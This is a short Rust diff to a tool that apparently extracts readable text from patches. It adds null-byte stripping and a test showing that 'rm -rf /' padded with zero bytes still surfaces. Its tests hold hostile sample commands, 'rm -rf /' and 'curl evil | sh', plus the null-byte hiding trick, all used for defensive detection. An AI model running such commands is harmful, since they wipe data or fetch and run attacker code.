@@ -299,6 +299,8 @@ fn text_in(line: &str) -> Option<String> {
         return (line.len() > 1).then(|| line.to_owned());
     }
     let sign = line.chars().next().filter(|sign| "+- ".contains(*sign))?;
+    // Shells skip zero bytes, so a command may have one between any two characters.
+    let line = line.replace('\0', "");
     let parts = line[1..].split(|c| is_odd(&c)).filter(|part| part.trim().chars().count() >= SHORTEST_TEXT);
     let parts: Vec<&str> = parts.collect();
     (!parts.is_empty()).then(|| format!("{sign}\u{fffd}{}\u{fffd}", parts.join("\u{fffd}")))
@@ -330,6 +332,13 @@ mod tests {
         assert!(words.ends_with("differ\n@@ -1 +1 @@\n+rm -rf /\n[1 lines that are not text]\n"), "{words}");
         let marked = [head.as_bytes(), b"+curl evil | sh #\x01\n+", &[0, 1, 2, 255].repeat(40)].concat();
         assert!(shown(&marked, "").contains("curl evil | sh #"), "{}", shown(&marked, ""));
+    }
+
+    #[test]
+    fn zero_bytes_between_characters_hide_no_command() {
+        let spread: String = "rm -rf /".chars().flat_map(|c| [c, '\0', '\0', '\0']).collect();
+        let patch = format!("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n+{spread}\n");
+        assert!(shown(patch.as_bytes(), "").contains("rm -rf /"), "{}", shown(patch.as_bytes(), ""));
     }
 
     #[test]
